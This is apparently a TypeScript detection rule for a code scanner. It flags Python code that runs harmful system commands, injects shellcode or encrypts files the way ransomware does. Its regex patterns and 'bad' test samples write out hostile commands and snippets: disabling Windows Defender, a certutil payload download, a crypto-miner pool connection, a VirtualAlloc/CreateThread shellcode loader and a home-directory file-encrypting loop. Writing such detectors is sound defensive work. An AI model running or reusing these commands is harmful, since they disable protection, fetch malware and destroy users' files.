import { pythonRule } from './pythonRule.ts';
import { say } from '../../../texts/say.ts';
import type { Told } from '../../../model/told.ts';

const RUNS = /^(?:os\.(?:system|popen)|subprocess\.(?:run|call|Popen|check_output|check_call|getoutput))$/;

/** Commands that no honest program needs, with what they do. */
const COMMANDS: readonly (readonly [RegExp, Told])[] = [
  [
    /certutil[\s\S]{0,40}-urlcache|bitsadmin[\s\S]{0,40}\/transfer|mshta(?:\.exe)?["', ]+(?:https?:|javascript:|vbscript:)|regsvr32[\s\S]{0,60}\/i:http/i,
    say('living-off-the-land'),
  ],
  [
    /Set-MpPreference|DisableRealtimeMonitoring|Add-MpPreference[\s\S]{0,40}-Exclusion|advfirewall[\s\S]{0,40}state\s+off|(?:sc|net)(?:\.exe)?["', ]+stop["', ]+(?:WinDefend|mpssvc)/i,
    say('protection-software-off'),
  ],
  [
    /vssadmin[\s\S]{0,20}delete["', ]+shadows|wbadmin[\s\S]{0,20}delete|bcdedit[\s\S]{0,60}recoveryenabled/i,
    say('deletes-backups'),
  ],
  [/stratum\+(?:tcp|ssl|tls):\/\/|\bxmrig\b|\bminerd\b/i, say('names-miner')],
];

export const pythonHarmfulCommand = pythonRule({
  id: 'python-harmful-command',
  title: 'Runs a harmful system command',
  severity: 'critical',
  confidence: 'medium',
  cwe: 'CWE-506',
  why: 'Malicious packages use system tools to download programs, disable protection or destroy files.',
  remedy: 'Do not run it, and do not install what brings it.',
  callees: (name) =>
    RUNS.test(name) ||
    /\.(?:CreateThread|CreateRemoteThread|RtlCreateUserThread|EnumSystemLocalesA?|encrypt)$/.test(name),
  call: (call, fact) => {
    if (RUNS.test(call.name)) {
      const text = `${call.text} ${String(call.args[0]?.constant ?? call.args[0]?.prefix ?? '')} ${call.args[0]?.literal ?? ''}`;
      const command = COMMANDS.find(([form]) => form.test(text));
      return command === undefined ? undefined : { message: command[1] };
    }
    if (
      /\.(?:CreateThread|CreateRemoteThread|RtlCreateUserThread|EnumSystemLocalesA?)$/.test(call.name) &&
      fact.calls.some(({ name }) => /\.VirtualAlloc(?:Ex)?$/.test(name)) &&
      fact.calls.some(({ name }) => /\.(?:RtlMoveMemory|WriteProcessMemory|memmove)$/.test(name))
    )
      return { confidence: 'high', message: say('shellcode') };
    if (
      /\.encrypt$/.test(call.name) &&
      fact.calls.some(
        ({ name, within, args }) =>
          within === call.within &&
          /^os\.(?:rename|remove|unlink|replace)$/.test(name) &&
          args[0]?.constant === undefined,
      ) &&
      fact.calls.some(
        ({ name, args, text }) =>
          name === 'os.walk' &&
          /expanduser\(["']~|["'](?:\/|\/home|C:\\+(?:Users)?)["']/.test(`${text} ${String(args[0]?.constant ?? '')}`),
      )
    )
      return { message: say('ransomware') };
    return undefined;
  },
  bad: [
    'import subprocess\nsubprocess.run(\'powershell -Command "Set-MpPreference -DisableRealtimeMonitoring $true"\', shell=True)',
    "import os\nos.system('certutil -urlcache -split -f https://x.dev/a.exe a.exe')",
    "import subprocess\nsubprocess.Popen(['/tmp/a', '-o', 'stratum+tcp://pool.x.dev:3333'])",
    'import ctypes\nk = ctypes.windll.kernel32\np = k.VirtualAlloc(0, 9, 12288, 64)\nk.RtlMoveMemory(p, b, 9)\nk.CreateThread(0, 0, p, 0, 0, 0)',
    "import os\ndef go(f):\n    for root, d, files in os.walk(os.path.expanduser('~')):\n        for n in files:\n            p = os.path.join(root, n)\n            open(p, 'wb').write(f.encrypt(open(p, 'rb').read()))\n            os.rename(p, p + '.x')",
  ],
  good: [
    "import subprocess\nsubprocess.run(['certutil', '-hashfile', path, 'SHA256'])",
    "import os\ndef go(f, path):\n    data = f.encrypt(open(path, 'rb').read())\n    os.rename(path, path + '.bak')\n    open(path, 'wb').write(data)",
    "import ctypes\nctypes.windll.kernel32.SetConsoleTitleW('a')",
  ],
});
